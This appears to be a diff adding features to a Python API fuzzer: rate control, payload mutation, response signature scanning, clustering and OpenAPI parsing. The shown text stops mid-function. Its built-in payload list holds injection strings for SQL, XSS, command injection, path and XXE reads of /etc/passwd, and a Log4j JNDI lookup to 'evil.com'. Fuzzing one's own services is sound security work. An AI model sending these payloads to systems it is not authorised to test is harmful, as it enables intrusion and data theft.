@@ -5,76 +5,1195 @@ Automates sending invalid data to web APIs to find unexpected errors and vulnera
 """
 
 import argparse
+import asyncio
+import base64
+import contextlib
+import copy
+import hashlib
 import requests
+import itertools
 import json
+import multiprocessing
+import os
+import queue
 import string
 import random
+import re
+import threading
 import time
-from urllib.parse import urlparse
+from collections import deque
+from concurrent.futures import ThreadPoolExecutor
+from requests.adapters import HTTPAdapter
+from urllib.parse import quote, urlparse
+
+class TokenBucket:
+    """Thread-safe token bucket refilled at `rate` tokens per second"""
+
+    def __init__(self, rate, burst=None):
+        self.rate = rate
+        self.burst = burst
+        self.tokens = 1.0
+        self.updated = time.monotonic()
+        self.paused_until = 0.0
+        self.lock = threading.Lock()
+
+    def capacity(self):
+        return self.burst or max(1.0, self.rate / 10)
+
+    def acquire(self):
+        """Block until a token is available"""
+        while True:
+            with self.lock:
+                now = time.monotonic()
+                self.tokens = min(self.capacity(), self.tokens + (now - self.updated) * self.rate)
+                self.updated = now
+                if now < self.paused_until:
+                    wait = self.paused_until - now
+                elif self.tokens >= 1:
+                    self.tokens -= 1
+                    return
+                else:
+                    wait = (1 - self.tokens) / self.rate
+            time.sleep(wait)
+
+    def pause(self, seconds):
+        with self.lock:
+            self.paused_until = max(self.paused_until, time.monotonic() + seconds)
+            self.tokens = 0.0
+
+
+class HostRate:
+    """Adaptive state for one target host: slow start, then AIMD"""
+
+    def __init__(self, rate, window):
+        self.bucket = TokenBucket(rate)
+        self.latencies = deque(maxlen=window)
+        self.baseline = None
+        self.slow_start = True
+        self.since_adjust = 0
+
+
+class RateController:
+    """
+    Adaptive rate control for send_request.
+
+    Each host gets a token bucket whose rate doubles every round (slow start)
+    until the first congestion signal, then grows additively and is cut
+    multiplicatively on 429/503 responses, connection errors or when the p90
+    latency of the recent window exceeds `latency_factor` times the baseline.
+    A round is roughly one second of traffic at the current rate. Per-host
+    rates never exceed `host_rate`; all hosts together never exceed `max_rate`.
+    """
+
+    THROTTLE_STATUSES = (429, 503)
+
+    def __init__(self, initial_rate=10.0, max_rate=1000.0, host_rate=None,
+                 increase=5.0, decrease=0.5, latency_factor=2.0, window=100):
+        self.initial_rate = initial_rate
+        self.max_rate = max_rate
+        self.host_rate = min(host_rate, max_rate) if host_rate else max_rate
+        self.increase = increase
+        self.decrease = decrease
+        self.latency_factor = latency_factor
+        self.window = window
+        self.ceiling = TokenBucket(max_rate)
+        self.hosts = {}
+        self.lock = threading.Lock()
+
+    def host(self, name):
+        with self.lock:
+            if name not in self.hosts:
+                self.hosts[name] = HostRate(min(self.initial_rate, self.host_rate), self.window)
+            return self.hosts[name]
+
+    def acquire(self, name):
+        """Block until both the host bucket and the global ceiling allow a request"""
+        self.host(name).bucket.acquire()
+        self.ceiling.acquire()
+
+    def record(self, name, status, latency, retry_after=None):
+        """Feed back one observed response (status None for connection errors)"""
+        host = self.host(name)
+        with self.lock:
+            bucket = host.bucket
+            if status is None or status in self.THROTTLE_STATUSES:
+                self._backoff(host)
+                if retry_after:
+                    bucket.pause(retry_after)
+                return
+
+            host.latencies.append(latency)
+            host.since_adjust += 1
+            if host.since_adjust < max(bucket.rate, len(host.latencies) // 2, 1):
+                return
+            host.since_adjust = 0
+
+            p90 = sorted(host.latencies)[int(len(host.latencies) * 0.9)]
+            if host.baseline is None or p90 < host.baseline:
+                host.baseline = p90
+            if p90 > host.baseline * self.latency_factor:
+                self._backoff(host)
+                host.baseline *= 1.5  # Let a lasting latency shift become the new normal
+            elif host.slow_start:
+                bucket.rate = min(bucket.rate * 2, self.host_rate)
+            else:
+                bucket.rate = min(bucket.rate + self.increase, self.host_rate)
+
+    def _backoff(self, host):
+        host.slow_start = False
+        host.since_adjust = 0
+        host.latencies.clear()
+        host.bucket.rate = max(1.0, host.bucket.rate * self.decrease)
+
+    def shard_settings(self, workers):
+        """Constructor arguments giving each of `workers` processes an equal share of these limits"""
+        return {
+            'initial_rate': max(1.0, self.initial_rate / workers),
+            'max_rate': self.max_rate / workers,
+            'host_rate': self.host_rate / workers,
+            'increase': self.increase / workers,
+            'decrease': self.decrease,
+            'latency_factor': self.latency_factor,
+            'window': self.window,
+        }
+
+    def rates(self):
+        with self.lock:
+            return {name: host.bucket.rate for name, host in self.hosts.items()}
+
+
+def retry_after_seconds(response):
+    """Parse a numeric Retry-After header, if any"""
+    try:
+        return float(response.headers.get('Retry-After', ''))
+    except ValueError:
+        return None
+
+
+class PayloadGenerator:
+    """
+    Lazily yields fuzz payloads: the built-in list, random strings, lines of
+    the seed corpus files, then mutations of those seeds until `count`
+    payloads have been produced. Memory stays flat: corpus files are streamed
+    and mutation parents are kept in a bounded reservoir sample.
+    """
+
+    BASE_PAYLOADS = [
+        '',  # Empty
+        'A' * 1000,  # Long string
+        'A' * 10000,  # Very long
+        "' OR '1'='1",  # SQL injection
+        "<script>alert('xss')</script>",  # XSS
+        "../../../../etc/passwd",  # Path traversal
+        '\x00\x01\x02\x03',  # Binary
+        '{"malformed": json}',  # Malformed JSON
+        '|| echo vulnerable ||',  # Command injection
+        'sleep(10)',  # Time-based
+        'exists(/)',  # XPath injection
+        '<!ENTITY xxe SYSTEM "file:///etc/passwd">',  # XXE
+        'undefined',  # JavaScript injection
+        '../../../windows/system32/drivers/etc/hosts',  # Windows path
+        '%00%n%s%p%x%d',  # Format string
+        'SELECT * FROM users',  # Direct SQL
+        '${jndi:ldap://evil.com}',  # Log4j
+        '..\0..\0..\0..\0windows\0system.ini',  # Null byte injection
+        '💣🔥',  # Unicode
+        '0xCAFEBABE',  # Hex
+        'NaN',  # Special floats
+        '-Infinity',
+        '91763e3f5d4c4b4b9d9ddf7e',  # Random UUID-like
+    ]
+
+    CHARSET = string.ascii_letters + string.digits + string.punctuation
+
+    def __init__(self, seed=None, corpus_files=(), count=None, random_count=10,
+                 max_length=10000, reservoir_size=1000):
+        self.seed = seed
+        self.corpus_files = list(corpus_files)
+        self.count = count
+        self.random_count = random_count
+        self.max_length = max_length
+        self.reservoir_size = reservoir_size
+        self.rng = random.Random(seed)
+        self.mutators = [self.bit_flip, self.splice, self.extend, self.encode]
+        # Resume point and RNG snapshots for checkpointing (see resume_at)
+        self.start = 0
+        self.start_state = None
+        self.snapshot_every = None
+        self.snapshots = {}
+
+    def resume_at(self, index, rng_state=None):
+        """
+        Make iteration start at payload `index`. The seed phase is replayed
+        silently to rebuild the mutation reservoir; in the mutation phase the
+        RNG is restored from `rng_state` (the state before payload `index`),
+        or, without it, the skipped mutations are regenerated and discarded.
+        """
+        self.start = index
+        self.start_state = rng_state
+
+    def snapshot(self, index):
+        """RNG state saved once the payloads before `index` were generated, if one was taken"""
+        state = self.snapshots.pop(index, None)
+        for old in [i for i in self.snapshots if i < index]:
+            del self.snapshots[old]
+        return state
+
+    def total(self):
+        """Number of payloads that will be yielded, or None if not known up front"""
+        if self.count is not None:
+            return self.count
+        if not self.corpus_files:
+            return len(self.BASE_PAYLOADS) + self.random_count
+        return None
+
+    def random_string(self):
+        length = self.rng.randint(1, 500)
+        return ''.join(self.rng.choices(self.CHARSET, k=length))
+
+    def seeds(self):
+        yield from self.BASE_PAYLOADS
+        for _ in range(self.random_count):
+            yield self.random_string()
+        for path in self.corpus_files:
+            with open(path, encoding='utf-8', errors='surrogateescape') as f:
+                for line in f:
+                    yield line.rstrip('\r\n')
+
+    def __iter__(self):
+        self.rng = random.Random(self.seed)
+        self.snapshots = {}
+        reservoir = []
+        produced = 0
+        for seen, payload in enumerate(self.seeds()):
+            if self.count is not None and produced >= self.count:
+                return
+            # Reservoir sampling keeps a uniform, bounded pool of mutation parents
+            if len(reservoir) < self.reservoir_size:
+                reservoir.append(payload)
+            else:
+                slot = self.rng.randrange(seen + 1)
+                if slot < self.reservoir_size:
+                    reservoir[slot] = payload
+            if produced >= self.start:
+                yield payload
+            produced += 1
+
+        if self.start_state is not None and produced < self.start:
+            self.rng.setstate(self.start_state)
+            produced = self.start
+        while self.count is not None and produced < self.count:
+            payload = self.mutate(reservoir)
+            produced += 1
+            if self.snapshot_every and produced % self.snapshot_every == 0:
+                self.snapshots[produced] = self.rng.getstate()
+            if produced > self.start:
+                yield payload
+
+    def mutate(self, pool):
+        mutator = self.rng.choice(self.mutators)
+        return mutator(self.rng.choice(pool), pool)[:self.max_length]
+
+    # Mutation operators
+
+    def bit_flip(self, payload, pool):
+        if not payload:
+            return self.random_string()
+        chars = list(payload)
+        for _ in range(self.rng.randint(1, 4)):
+            i = self.rng.randrange(len(chars))
+            flipped = ord(chars[i]) ^ (1 << self.rng.randrange(7))
+            chars[i] = chr(flipped) if not 0xD800 <= flipped <= 0xDFFF else '?'
+        return ''.join(chars)
+
+    def splice(self, payload, pool):
+        other = self.rng.choice(pool)
+        return payload[:self.rng.randint(0, len(payload))] + other[self.rng.randint(0, len(other)):]
+
+    def extend(self, payload, pool):
+        if not payload:
+            return 'A' * self.rng.choice([256, 1024, 4096, 65536])
+        i = self.rng.randrange(len(payload))
+        chunk = payload[i:i + self.rng.randint(1, 16)]
+        return payload[:i] + chunk * self.rng.randint(2, 512) + payload[i:]
+
+    def encode(self, payload, pool):
+        variant = self.rng.randrange(6)
+        if variant == 0:
+            return quote(payload, safe='')
+        if variant == 1:
+            return quote(quote(payload, safe=''), safe='')
+        if variant == 2:
+            return ''.join(f'&#{ord(c)};' for c in payload)
+        if variant == 3:
+            return payload.encode('unicode_escape').decode('ascii')
+        if variant == 4:
+            return base64.b64encode(payload.encode('utf-8', 'surrogateescape')).decode('ascii')
+        return payload.swapcase()
+
+
+class Signature:
+    """
+    A response signature. `pattern` is a literal matched case-insensitively,
+    or a regular expression if `regex` is set. `finding` is the label reported
+    on a match; if `requires` names other signatures, the finding is only
+    reported when one of those matched too.
+    """
+
+    def __init__(self, name, pattern, finding=None, requires=(), regex=False):
+        self.name = name
+        self.pattern = pattern
+        self.finding = finding
+        self.requires = tuple(requires)
+        self.regex = regex
+
+
+ERROR_KEYWORDS = ('error', 'exception', 'stack-trace', 'fatal', 'traceback', 'sql', 'syntax')
+
+DEFAULT_SIGNATURES = [
+    Signature('sql', 'sql', 'Possible SQL Error'),
+    Signature('stack-trace', 'stack trace', 'Stack Trace Leak'),
+    Signature('stack', 'stack', 'Stack Trace Leak', requires=ERROR_KEYWORDS),
+    Signature('error', 'error'),
+    Signature('exception', 'exception'),
+    Signature('fatal', 'fatal'),
+    Signature('traceback', 'traceback'),
+    Signature('syntax', 'syntax'),
+]
+
+
+class SignatureSet:
+    """
+    Signatures compiled once and matched against raw response bytes.
+
+    Literal signatures are case-folded at compile time and located with C-level
+    byte searches over a single lowercased copy of the body. Both sides are
+    folded with bytes.lower(), which only folds ASCII letters, so non-ASCII
+    text matches with its case as given; regex signatures
+    are combined into one case-insensitive alternation. (A combined regex for
+    the literals as well was measured ~25x slower than this on CPython.)
+    """
+
+    def __init__(self, signatures=None):
+        self.signatures = list(DEFAULT_SIGNATURES if signatures is None else signatures)
+        self.compile()
+
+    @classmethod
+    def from_file(cls, path, include_defaults=True):
+        """Load extra signatures from a JSON list of Signature keyword objects"""
+        with open(path, encoding='utf-8') as f:
+            extra = [Signature(**entry) for entry in json.load(f)]
+        return cls((DEFAULT_SIGNATURES if include_defaults else []) + extra)
+
+    def add(self, signature):
+        self.signatures.append(signature)
+        self.compile()
+
+    def compile(self):
+        self.order = {signature.name: i for i, signature in enumerate(self.signatures)}
+        self.literals = [(signature, self.fold(signature.pattern))
+                         for signature in self.signatures if not signature.regex]
+        regexes = [signature for signature in self.signatures if signature.regex]
+        self.regex_groups = {f's{i}': signature for i, signature in enumerate(regexes)}
+        self.regex = None
+        if regexes:
+            self.regex = re.compile(b'|'.join(f'(?P<s{i}>'.encode() + signature.pattern.encode('utf-8') + b')'
+                                              for i, signature in enumerate(regexes)), re.IGNORECASE)
+
+    @staticmethod
+    def fold(text):
+        # The same folding as the body gets in SignatureScanner.feed
+        return text.encode('utf-8', 'surrogateescape').lower()
+
+    def scanner(self, extra=()):
+        """Incremental scanner for one body, with `extra` per-response literal signatures"""
+        return SignatureScanner(self, extra)
+
+    def scan(self, body, extra=()):
+        """Return (signature, offset) for the first match of each signature, in set order"""
+        scanner = self.scanner(extra)
+        scanner.feed(body)
+        return scanner.matches()
+
+    @staticmethod
+    def findings(matches):
+        """Reportable finding labels for a scan result, without duplicates"""
+        matched = {signature.name for signature, _ in matches}
+        labels = []
+        for signature, _ in matches:
+            if not signature.finding or signature.finding in labels:
+                continue
+            if signature.requires and not matched.intersection(signature.requires):
+                continue
+            labels.append(signature.finding)
+        return labels
+
+
+class SignatureScanner:
+    """
+    Scan state for a body fed in chunks. The last few bytes of each chunk are
+    kept and rescanned with the next one, so matches spanning chunk boundaries
+    are found while memory stays bounded by the chunk size.
+    """
+
+    REGEX_OVERLAP = 256
+
+    def __init__(self, signature_set, extra=()):
+        self.signature_set = signature_set
+        self.literals = signature_set.literals + [(signature, signature_set.fold(signature.pattern))
+                                                  for signature in extra]
+        self.order = dict(signature_set.order)
+        for signature in extra:
+            self.order.setdefault(signature.name, len(self.order))
+        self.overlap = max([len(needle) for _, needle in self.literals] + [1]) - 1
+        if signature_set.regex:
+            self.overlap = max(self.overlap, self.REGEX_OVERLAP)
+        self.tail = b''
+        self.tail_offset = 0
+        self.first = {}
+
+    def feed(self, chunk):
+        data = self.tail + chunk
+        folded = data.lower()
+        for signature, needle in self.literals:
+            if signature.name not in self.first:
+                offset = folded.find(needle)
+                if offset >= 0:
+                    self.first[signature.name] = (signature, self.tail_offset + offset)
+        if self.signature_set.regex:
+            for match in self.signature_set.regex.finditer(data):
+                signature = self.signature_set.regex_groups[match.lastgroup]
+                if signature.name not in self.first:
+                    self.first[signature.name] = (signature, self.tail_offset + match.start())
+
+        keep = min(len(data), self.overlap)
+        self.tail = data[len(data) - keep:]
+        self.tail_offset += len(data) - keep
+
+    def matches(self):
+        return sorted(self.first.values(), key=lambda hit: self.order[hit[0].name])
+
+
+class BodyHash:
+    """
+    Streaming hash of a body with case, digits, whitespace and the reflected
+    payload normalized away, so responses that differ only in timestamps, IDs
+    or the echoed input hash the same.
+    """
+
+    VOLATILE = re.compile(rb'[\d\s]+')
+
+    def __init__(self, payload=None):
+        self.digest = hashlib.blake2b(digest_size=8)
+        self.needle = b''
+        if payload:
+            self.needle = self.VOLATILE.sub(b'', payload.encode('utf-8', 'surrogateescape').lower())
+            if len(self.needle) < 4:
+                self.needle = b''
+        self.payload_length = len(payload.encode('utf-8', 'surrogateescape')) if self.needle else 0
+        self.reflected = 0
+        self.pending = b''
+
+    def feed(self, chunk):
+        data = self.pending + self.VOLATILE.sub(b'', chunk.lower())
+        if self.needle:
+            # Hold back a possible partial payload echo until the next chunk
+            self.reflected += data.count(self.needle) * self.payload_length
+            data = data.replace(self.needle, b'')
+            keep = min(len(data), len(self.needle) - 1)
+            self.pending = data[len(data) - keep:]
+            data = data[:len(data) - keep]
+        self.digest.update(data)
+
+    def hexdigest(self):
+        self.digest.update(self.pending)
+        self.pending = b''
+        return self.digest.hexdigest()
+
+
+class BodyScan:
+    """
+    Outcome of a bounded streaming read of one response body. `content_length`
+    is in decoded bytes; `length_source` is 'body' when it was counted while
+    reading (a lower bound if truncated) and 'header' when it is the
+    Content-Length of a truncated, unencoded body.
+    """
+
+    def __init__(self, matches, content_length, truncated, body_hash, reflected=0, length_source='body'):
+        self.matches = matches
+        self.content_length = content_length
+        self.truncated = truncated
+        self.body_hash = body_hash
+        self.reflected = reflected
+        self.length_source = length_source
+
+
+class ResponseClusters:
+    """
+    Groups responses by fingerprint. A response is "baseline" when it looks
+    like one of the benign baseline responses and raised no finding, "known"
+    when an earlier fuzz response already had the same fingerprint and finding
+    kinds, and "new" otherwise. Lookups are single dict/set probes.
+    """
+
+    BASELINE, KNOWN, NEW = 'baseline', 'known', 'new'
+
+    def __init__(self):
+        self.baseline = set()
+        self.baseline_hits = 0
+        self.clusters = {}
+
+    def add_baseline(self, fingerprint):
+        self.baseline.add(fingerprint)
+
+    @staticmethod
+    def key(analysis):
+        kinds = tuple(error.split(':', 1)[0] for error in analysis['errors'])
+        return analysis['fingerprint'], kinds
+
+    def classify(self, index, payload, analysis):
+        if not analysis['errors'] and analysis['fingerprint'] in self.baseline:
+            self.baseline_hits += 1
+            return self.BASELINE
+        key = self.key(analysis)
+        cluster = self.clusters.get(key)
+        if cluster:
+            cluster['count'] += 1
+            return self.KNOWN
+        self.clusters[key] = {'id': len(self.clusters) + 1, 'count': 1, 'index': index,
+                              'payload': payload, 'analysis': analysis}
+        return self.NEW
+
+    def cluster_id(self, analysis):
+        return self.clusters[self.key(analysis)]['id']
+
+    def state(self):
+        return {
+            'baseline': list(self.baseline),
+            'baseline_hits': self.baseline_hits,
+            'clusters': [[key, cluster] for key, cluster in self.clusters.items()],
+        }
+
+    def restore(self, state):
+        self.baseline = {tuplify(fingerprint) for fingerprint in state['baseline']}
+        self.baseline_hits = state['baseline_hits']
+        self.clusters = {tuplify(key): cluster for key, cluster in state['clusters']}
+
+    def summary(self):
+        lines = [f"Baseline-like responses: {self.baseline_hits}"]
+        for cluster in self.clusters.values():
+            analysis = cluster['analysis']
+            errors = ', '.join(error.split(':', 1)[0] for error in analysis['errors']) or 'no findings'
+            lines.append(f"#{cluster['id']}: {cluster['count']} response(s), status {analysis['status']}, "
+                         f"{errors}; first payload {cluster['index'] + 1}: {repr(cluster['payload'][:50])}")
+        return lines
+
+
+class LatencyHistogram:
+    """
+    HDR-style log-linear histogram of latencies in microseconds. Every power
+    of two is split into 64 sub-buckets (under 1.6% relative error) and the
+    bucket array has a fixed size, so memory is constant however many samples
+    are recorded.
+    """
+
+    SUB_BUCKETS = 128
+    HALF = SUB_BUCKETS // 2
+    MAX_SHIFT = 26  # Values up to ~2^33 us (over two hours)
+
+    def __init__(self):
+        self.counts = [0] * (self.SUB_BUCKETS + self.MAX_SHIFT * self.HALF)
+        self.total = 0
+        self.max = 0
+
+    def index(self, value):
+        if value < self.SUB_BUCKETS:
+            return value
+        shift = min(value.bit_length() - 7, self.MAX_SHIFT)
+        return self.SUB_BUCKETS + (shift - 1) * self.HALF + min((value >> shift) - self.HALF, self.HALF - 1)
+
+    def bucket_value(self, index):
+        """Upper bound of the values counted in bucket `index`"""
+        if index < self.SUB_BUCKETS:
+            return index
+        shift, sub = divmod(index - self.SUB_BUCKETS, self.HALF)
+        return ((self.HALF + sub + 1) << (shift + 1)) - 1
+
+    def record(self, seconds):
+        value = max(0, int(seconds * 1000000))
+        self.counts[self.index(value)] += 1
+        self.total += 1
+        self.max = max(self.max, value)
+
+    def state(self):
+        return {'counts': {i: count for i, count in enumerate(self.counts) if count},
+                'total': self.total, 'max': self.max}
+
+    @classmethod
+    def from_state(cls, state):
+        histogram = cls()
+        for i, count in state['counts'].items():
+            histogram.counts[int(i)] = count
+        histogram.total = state['total']
+        histogram.max = state['max']
+        return histogram
+
+    def merge(self, other):
+        for i, count in enumerate(other.counts):
+            self.counts[i] += count
+        self.total += other.total
+        self.max = max(self.max, other.max)
+
+    def percentile(self, p):
+        """Latency in seconds at percentile `p` (0-100)"""
+        if not self.total:
+            return 0.0
+        target = max(1, int(self.total * p / 100 + 0.5))
+        seen = 0
+        for i, count in enumerate(self.counts):
+            seen += count
+            if seen >= target:
+                return min(self.bucket_value(i), self.max) / 1000000
+        return self.max / 1000000
+
+
+class LatencyTracker:
+    """
+    Per-endpoint latency histograms. Baseline histograms are fed by benign
+    probe requests; a fuzz response is a timing anomaly when it takes longer
+    than `factor` times the baseline p99 and at least `threshold` seconds
+    more than it.
+    """
+
+    def __init__(self, threshold=1.0, factor=3.0):
+        self.threshold = threshold
+        self.factor = factor
+        self.baseline = {}
+        self.observed = {}
+
+    def record_baseline(self, endpoint, seconds):
+        self.baseline.setdefault(endpoint, LatencyHistogram()).record(seconds)
+
+    def record(self, endpoint, seconds):
+        """Record a fuzz response; return a finding label if its latency is anomalous"""
+        self.record_observed(endpoint, seconds)
+        baseline = self.baseline.get(endpoint)
+        if not baseline or not baseline.total:
+            return None
+        p99 = baseline.percentile(99)
+        if seconds > p99 * self.factor and seconds > p99 + self.threshold:
+            return f"Latency Anomaly: {seconds:.2f}s (baseline p99 {p99:.3f}s)"
+        return None
+
+    def state(self):
+        return {name: {endpoint: histogram.state() for endpoint, histogram in histograms.items()}
+                for name, histograms in (('baseline', self.baseline), ('observed', self.observed))}
+
+    def restore(self, state):
+        self.baseline = {endpoint: LatencyHistogram.from_state(h) for endpoint, h in state['baseline'].items()}
+        self.observed = {endpoint: LatencyHistogram.from_state(h) for endpoint, h in state['observed'].items()}
+
+    def record_observed(self, endpoint, seconds):
+        """Record a fuzz-response sample without judging it, e.g. one already judged by a worker process"""
+        self.observed.setdefault(endpoint, LatencyHistogram()).record(seconds)
+
+    def summary(self):
+        lines = []
+        for endpoint, histogram in sorted(self.observed.items()):
+            lines.append(f"{endpoint}: n={histogram.total} p50={histogram.percentile(50) * 1000:.1f}ms "
+                         f"p99={histogram.percentile(99) * 1000:.1f}ms p999={histogram.percentile(99.9) * 1000:.1f}ms")
+        return lines
+
+
+def tuplify(value):
+    """Turn JSON lists back into the (nested) tuples they were saved from"""
+    if isinstance(value, list):
+        return tuple(tuplify(item) for item in value)
+    return value
+
+
+class ResultsLog:
+    """
+    Append-only JSONL results store. Records are flushed to the OS as they
+    are written and fsynced every `sync_every` records or `sync_interval`
+    seconds. Checkpoints are written next to the log, atomically, and always
+    after an fsync so the log offset they record is durable.
+    """
+
+    def __init__(self, path, sync_every=1000, sync_interval=5.0):
+        self.path = path
+        self.checkpoint_path = path + '.checkpoint'
+        self.sync_every = sync_every
+        self.sync_interval = sync_interval
+        self.file = None
+        self.unsynced = 0
+        self.synced_at = time.monotonic()
+
+    def open(self, truncate_to=0):
+        """Open for appending, dropping anything written after offset `truncate_to`"""
+        self.file = open(self.path, 'ab')
+        if self.file.tell() > truncate_to:
+            # An index of the dropped records would point into the records written next
+            with contextlib.suppress(FileNotFoundError):
+                os.remove(self.path + '.idx')
+        self.file.truncate(truncate_to)
+        self.file.seek(truncate_to)
+
+    def append(self, record):
+        self.file.write(json.dumps(record, separators=(',', ':')).encode('utf-8') + b'\n')
+        self.file.flush()
+        self.unsynced += 1
+        if self.unsynced >= self.sync_every or time.monotonic() - self.synced_at >= self.sync_interval:
+            self.sync()
+
+    def sync(self):
+        self.file.flush()
+        os.fsync(self.file.fileno())
+        self.unsynced = 0
+        self.synced_at = time.monotonic()
+
+    def write_checkpoint(self, state):
+        self.sync()
+        state['log_offset'] = self.file.tell()
+        tmp = self.checkpoint_path + '.tmp'
+        with open(tmp, 'w', encoding='utf-8') as f:
+            json.dump(state, f)
+            f.flush()
+            os.fsync(f.fileno())
+        os.replace(tmp, self.checkpoint_path)
+
+    def read_checkpoint(self):
+        with open(self.checkpoint_path, encoding='utf-8') as f:
+            return json.load(f)
+
+    def close(self):
+        if self.file:
+            self.sync()
+            self.file.close()
+            self.file = None
+
+
+class ResultsIndex:
+    """
+    Summary index over a results log, saved next to it as `<log>.idx`. Only
+    the part of the log appended since the index was last saved is read, one
+    line at a time, so the log is never loaded into memory. Clusters keep the
+    byte offsets of a few example records for direct lookup.
+    """
+
+    EXAMPLES = 5
+    TAIL = 256  # Bytes before the indexed offset that must be unchanged for the index to be reused
+
+    def __init__(self, log_path):
+        self.log_path = log_path
+        self.index_path = log_path + '.idx'
+        self.state = self.empty()
+
+    @staticmethod
+    def empty():
+        return {'offset': 0, 'tail': '', 'records': 0, 'status': {}, 'findings': {}, 'clusters': {}}
+
+    def tail(self, f, offset):
+        start = max(0, offset - self.TAIL)
+        f.seek(start)
+        return hashlib.sha1(f.read(offset - start)).hexdigest()
+
+    def update(self):
+        if os.path.exists(self.index_path):
+            with open(self.index_path, encoding='utf-8') as f:
+                self.state = json.load(f)
+
+        with open(self.log_path, 'rb') as f:
+            if (os.path.getsize(self.log_path) < self.state['offset']
+                    or self.tail(f, self.state['offset']) != self.state.get('tail')):
+                # The log was truncated or rewritten, e.g. by a resume; rebuild from scratch
+                self.state = self.empty()
+            f.seek(self.state['offset'])
+            offset = self.state['offset']
+            for line in f:
+                if not line.endswith(b'\n'):
+                    break  # Partially written last record
+                self.add(json.loads(line), offset)
+                offset += len(line)
+            self.state['offset'] = offset
+            self.state['tail'] = self.tail(f, offset)
+
+        tmp = self.index_path + '.tmp'
+        with open(tmp, 'w', encoding='utf-8') as f:
+            json.dump(self.state, f)
+        os.replace(tmp, self.index_path)
+        return self
+
+    def add(self, record, offset):
+        state = self.state
+        state['records'] += 1
+        status = str(record['status'])
+        state['status'][status] = state['status'].get(status, 0) + 1
+        for error in record['errors']:
+            kind = error.split(':', 1)[0]
+            state['findings'][kind] = state['findings'].get(kind, 0) + 1
+        if record['cluster'] is not None:
+            cluster = state['clusters'].setdefault(str(record['cluster']), {
+                'count': 0, 'status': record['status'], 'first': record['index'], 'examples': []})
+            cluster['count'] += 1
+            if len(cluster['examples']) < self.EXAMPLES:
+                cluster['examples'].append(offset)
+
+    def summary(self):
+        state = self.state
+        lines = [f"Records: {state['records']}"]
+        lines.append("Status codes: " + ', '.join(f"{status} x{count}" for status, count in sorted(state['status'].items())))
+        for kind, count in sorted(state['findings'].items(), key=lambda item: -item[1]):
+            lines.append(f"Finding {kind}: {count}")
+        for cluster_id, cluster in sorted(state['clusters'].items(), key=lambda item: int(item[0])):
+            lines.append(f"Cluster #{cluster_id}: {cluster['count']} response(s), status {cluster['status']}, "
+                         f"first payload {cluster['first'] + 1}")
+        return lines
+
+    def examples(self, cluster_id):
+        """Read the example records of a cluster by seeking to their offsets"""
+        cluster = self.state['clusters'].get(str(cluster_id))
+        if not cluster:
+            return []
+        records = []
+        with open(self.log_path, 'rb') as f:
+            for offset in cluster['examples']:
+                f.seek(offset)
+                records.append(json.loads(f.readline()))
+        return records
+
+
+class InjectionPoint:
+    """
+    One place a payload can be injected: a parameter of an API operation.
+    `location` is 'path', 'query', 'header' or 'body'; a body `name` is a tuple
+    of keys into the JSON body (empty for the whole body). All other
+    parameters keep their sample values.
+    """
+
+    DEFAULT_HEADERS = {'Content-Type': 'application/json', 'User-Agent': 'CustomAPI Fuzzer/1.0'}
+
+    def __init__(self, method, url, location='query', name='input', path_params=None, query=None,
+                 headers=None, body=None):
+        self.method = method.upper()
+        self.url = url
+        self.location = location
+        self.name = name
+        self.path_params = path_params or {}
+        self.query = query or {}
+        self.headers = headers or {}
+        self.body = body
+        parsed = urlparse(url)
+        self.host = parsed.netloc
+        self.endpoint = f"{self.method} {parsed.path or '/'}"
+        label = '.'.join(str(key) for key in name) if isinstance(name, tuple) else name
+        self.key = f"{self.endpoint} {location}:{label}"
+
+    @classmethod
+    def default(cls, url, method):
+        """The classic single injection point: `input` in the query string or JSON body"""
+        if method.upper() == 'GET':
+            return cls(method, url, 'query', 'input')
+        return cls(method, url, 'body', ('input',), body={})
+
+    def build(self, payload):
+        """Keyword arguments for Session.request with `payload` injected"""
+        path_params = dict(self.path_params)
+        query = dict(self.query)
+        headers = dict(self.DEFAULT_HEADERS, **self.headers)
+        body = copy.deepcopy(self.body)
+        if self.location == 'path':
+            path_params[self.name] = payload
+        elif self.location == 'query':
+            query[self.name] = payload
+        elif self.location == 'header':
+            headers[self.name] = header_value(payload).encode('utf-8')  # Header values must be bytes beyond latin-1
+        else:
+            body = set_json_path(body, self.name, payload)
+
+        url = self.url
+        for key, value in path_params.items():
+            url = url.replace('{' + key + '}', quote(str(value), safe=''))
+        request = {'method': self.method, 'url': url, 'headers': headers}
+        if query:
+            request['params'] = query
+        if body is not None:
+            request['json'] = body
+        return request
+
+
+HEADER_UNSENDABLE = re.compile(r'^\s+|[\r\n\x00]')
+
+
+def header_value(payload):
+    """
+    `payload` as a header value. CR, LF, NUL and leading whitespace cannot be
+    sent in a header, so they are percent-encoded instead of failing locally.
+    """
+    return HEADER_UNSENDABLE.sub(lambda match: quote(match.group(), safe=''), payload)
+
+
+def parameter_text(value):
+    """A sample value as path, query or header text: JSON scalars spelled as in JSON, arrays comma-separated"""
+    if isinstance(value, bool):
+        return 'true' if value else 'false'
+    if value is None:
+        return ''
+    if isinstance(value, list):
+        return ','.join(parameter_text(item) for item in value)
+    if isinstance(value, dict):
+        return json.dumps(value)
+    return str(value)
+
+
+def set_json_path(document, keys, value):
+    """
+    Return `document` with the value at the key path `keys` replaced.
+    Missing object keys and list slots on the path are created, and a node
+    of the wrong kind is replaced, since a schema example need not contain
+    every field the schema declares.
+    """
+    if not keys:
+        return value
+    key = keys[0]
+    if isinstance(key, int):
+        node = document if isinstance(document, list) else []
+        node.extend([None] * (key + 1 - len(node)))
+        child = node[key]
+    else:
+        node = document if isinstance(document, dict) else {}
+        child = node.get(key)
+    node[key] = set_json_path(child, keys[1:], value)
+    return node
+
+
+class OpenAPISpec:
+    """Enumerates the injection points of an OpenAPI 3 or Swagger 2 JSON document"""
+
+    METHODS = ('get', 'put', 'post', 'delete', 'patch', 'head', 'options')
+    MAX_DEPTH = 6
+
+    def __init__(self, spec, base_url=None):
+        self.spec = spec
+        self.base_url = base_url or self.spec_base_url()
+
+    @classmethod
+    def from_file(cls, path, base_url=None):
+        with open(path, encoding='utf-8') as f:
+            return cls(json.load(f), base_url)
+
+    def spec_base_url(self):
+        if self.spec.get('servers'):
+            return self.spec['servers'][0]['url']
+        if self.spec.get('host'):
+            scheme = (self.spec.get('schemes') or ['https'])[0]
+            return f"{scheme}://{self.spec['host']}{self.spec.get('basePath', '')}"
+        return None
+
+    def resolve(self, node):
+        """Follow local $ref pointers such as #/components/schemas/User"""
+        for _ in range(self.MAX_DEPTH):
+            if not isinstance(node, dict) or '$ref' not in node:
+                return node
+            ref = node['$ref']
+            if not ref.startswith('#/'):
